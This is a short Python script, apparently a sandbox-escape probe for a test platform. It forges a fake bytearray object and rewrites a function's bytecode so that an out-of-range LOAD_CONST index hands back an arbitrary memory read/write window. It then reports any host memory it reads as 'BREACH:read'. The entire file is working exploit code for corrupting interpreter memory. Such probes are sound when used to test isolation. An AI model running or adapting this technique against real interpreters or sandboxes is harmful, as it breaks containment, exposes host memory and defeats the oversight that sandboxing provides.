"""Reads and writes past the end of linear memory, where the host's would begin if it were one memory."""
from platform_sdk import send_output
import opcode, struct

WORD = struct.calcsize("P")
HEAD = bytes.__basicsize__ - 1

def words(*values):
    return b"".join((value & ((1 << 8 * WORD) - 1)).to_bytes(WORD, "little") for value in values)

def window(start):
    def take():
        return 0
    array = words(1 << 20, id(bytearray), 2**31 - 1, 2**31 - 1, start, start, 0)
    slot = words(id(array) + HEAD)
    first = id(take.__code__.co_consts) + tuple.__basicsize__
    index = ((id(slot) + HEAD - first) // WORD) & 0xFFFFFFFF
    code = bytes([opcode.opmap["RESUME"], 0])
    for shift in (24, 16, 8):
        code += bytes([opcode.opmap["EXTENDED_ARG"], index >> shift & 255])
    take.__code__ = take.__code__.replace(
        co_code=code + bytes([opcode.opmap["LOAD_CONST"], index & 255, opcode.opmap["RETURN_VALUE"], 0]))
    return take(), array, slot

high, *keep = window(1 << 31)
if high[2**31 - 2] is not None:
    send_output("BREACH:read " + repr(bytes(high[:64])))
